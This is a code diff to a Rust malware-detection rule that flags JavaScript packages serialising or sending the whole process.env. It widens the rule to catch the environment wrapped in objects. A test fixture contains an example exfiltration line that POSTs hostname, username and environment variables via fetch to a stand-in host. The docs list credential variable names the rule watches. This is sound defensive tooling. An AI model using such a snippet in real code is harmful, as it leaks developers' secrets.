@@ -18,8 +18,9 @@ static INFO: RuleInfo = RuleInfo {
     docs: r#"## What it detects
 
 - the whole `process.env` serialised (`JSON.stringify(process.env)`, `Buffer.from(JSON…)`,
-  `querystring.stringify(process.env)`, `new URLSearchParams(process.env)`) or passed to a
-  network call;
+  `querystring.stringify(process.env)`, `new URLSearchParams(process.env)`, also wrapped in an
+  object with other host facts: `JSON.stringify({ host: os.hostname(), env: process.env })`) or
+  passed to a network call;
 - reads of several credential-looking variables of at least two services: `NPM_TOKEN`,
   `NODE_AUTH_TOKEN`, `GITHUB_TOKEN`, `GH_TOKEN`, `AWS_ACCESS_KEY_ID`, `AWS_SECRET_ACCESS_KEY`,
   `*_SECRET*`, `*_TOKEN`, `*_KEY`, `*PASSWORD*` (an SDK reads its own service's secrets; a
@@ -74,17 +75,13 @@ impl FileRule for EnvHarvest {
     }
 
     fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
-        let is_env = |v: &Value| matches!(v, Value::Member { path } if path == "process.env");
-        let serialized = file
+        let serialized = file.calls.iter().find(|c| {
+            SERIALIZERS.contains(&sinks::normalize(&c.callee)) && c.args.first().is_some_and(|a| holds_env(a, 3))
+        });
+        let sent_directly = file
             .calls
             .iter()
-            .find(|c| SERIALIZERS.contains(&sinks::normalize(&c.callee)) && c.args.first().is_some_and(is_env));
-        let sent_directly = file.calls.iter().find(|c| {
-            sinks::is_network_call(c)
-                && c.args.iter().any(|a| {
-                    is_env(a) || matches!(a, Value::Object { entries } if entries.iter().any(|(_, v)| is_env(v)))
-                })
-        });
+            .find(|c| sinks::is_network_call(c) && c.args.iter().any(|a| holds_env(a, 1)));
 
         let mut secrets: Vec<(&str, u32)> = Vec::new();
         for read in &file.member_reads {
@@ -199,6 +196,17 @@ impl FileRule for EnvHarvest {
     }
 }
 
+/// Whether `value` is the whole `process.env`, or holds it in an object or array at most
+/// `depth` levels down (`{ host: os.hostname(), env: process.env }`).
+fn holds_env(value: &Value, depth: u32) -> bool {
+    match value {
+        Value::Member { path } => path == "process.env",
+        Value::Object { entries } if depth > 0 => entries.iter().any(|(_, v)| holds_env(v, depth - 1)),
+        Value::Array { items } if depth > 0 => items.iter().any(|v| holds_env(v, depth - 1)),
+        _ => false,
+    }
+}
+
 /// A raw public IP or an exfiltration service named anywhere in a file that has a network call
 /// (or runs curl/wget). Shared with `exfil-sink` so both agree on what a hostile target is.
 pub fn exfil_target(file: &FileFacts) -> Option<String> {
@@ -281,6 +289,15 @@ mod tests {
         assert_eq!(findings[0].severity, Severity::Critical);
         assert_eq!(findings[0].line, Some(2));
         assert!(findings[0].message.contains("webhook.site"));
+    }
+
+    #[test]
+    fn env_wrapped_in_a_report_object_counts() {
+        let source = "const os = require('os');\nconst report = { h: os.hostname(), u: os.userInfo().username, env: process.env };\nfetch('https://stats.example.invalid/c', { method: 'POST', body: JSON.stringify(report) });";
+        assert!(worst(source) >= Severity::High, "{:?}", run(source));
+        // A child's environment built from process.env is not serialised.
+        let child = "const cp = require('child_process');\ncp.spawn('node', ['x.js'], { env: { ...process.env, FORCE_COLOR: '1' } });";
+        assert!(run(child).is_empty(), "{:?}", run(child));
     }
 
     #[test]
